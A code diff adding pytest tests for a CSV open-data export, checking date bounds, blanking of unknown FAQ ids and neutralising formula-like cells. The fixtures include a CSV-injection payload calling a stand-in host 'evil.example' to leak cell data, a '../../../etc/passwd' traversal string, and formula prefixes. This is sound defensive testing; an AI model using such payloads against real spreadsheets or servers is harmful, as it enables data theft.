@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 
 import pytest
@@ -11,6 +12,7 @@ from app.insights.opendata import (
     parse_period,
     period_bounds,
     published_count,
+    published_rows,
     render_csv,
 )
 from app.insights.repository import DailyAggregate
@@ -56,3 +58,33 @@ def test_the_file_starts_with_a_bom_and_the_fixed_header() -> None:
 
     assert text.startswith("\ufeffdate,channel,intent,faq_id,messages,escalations\r\n")
     assert text.endswith("2026-03-01,line,faq,company_certificate,12,<5\r\n")
+
+
+class TestOnlyDefinedValues:
+    def test_dates_whose_day_bounds_overflow_are_refused(self) -> None:
+        for start, end in (("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")):
+            with pytest.raises(OpenDataRequestError, match="must be between"):
+                parse_period(start, end)
+
+    def test_an_unknown_faq_id_from_a_postback_is_no_faq_id(self) -> None:
+        rows = [
+            DailyAggregate(
+                "2026-03-01", "line", "faq", '=HYPERLINK("https://evil.example/?"&A1,"click")', 3, 0
+            ),
+            DailyAggregate("2026-03-01", "line", "faq", "../../../etc/passwd", 4, 1),
+            DailyAggregate("2026-03-01", "line", "faq", "company_certificate", 6, 0),
+            DailyAggregate("2026-03-01", "+evil", "-cmd", "", 5, 0),
+        ]
+        published = published_rows(rows, {"company_certificate"})
+        assert [(r.channel, r.intent, r.faq_id, r.messages, r.escalations) for r in published] == [
+            ("", "", "", 5, 0),
+            ("line", "faq", "", 7, 1),
+            ("line", "faq", "company_certificate", 6, 0),
+        ]
+
+    @pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx"])
+    def test_no_cell_starts_like_a_formula(self, value: str) -> None:
+        text = render_csv([DailyAggregate("2026-03-01", value, value, value, 5, 5)])
+        for line in text.lstrip("\ufeff").splitlines()[1:]:
+            for cell in next(csv.reader([line])):
+                assert not cell.startswith(("=", "+", "-", "@", "\t")), cell
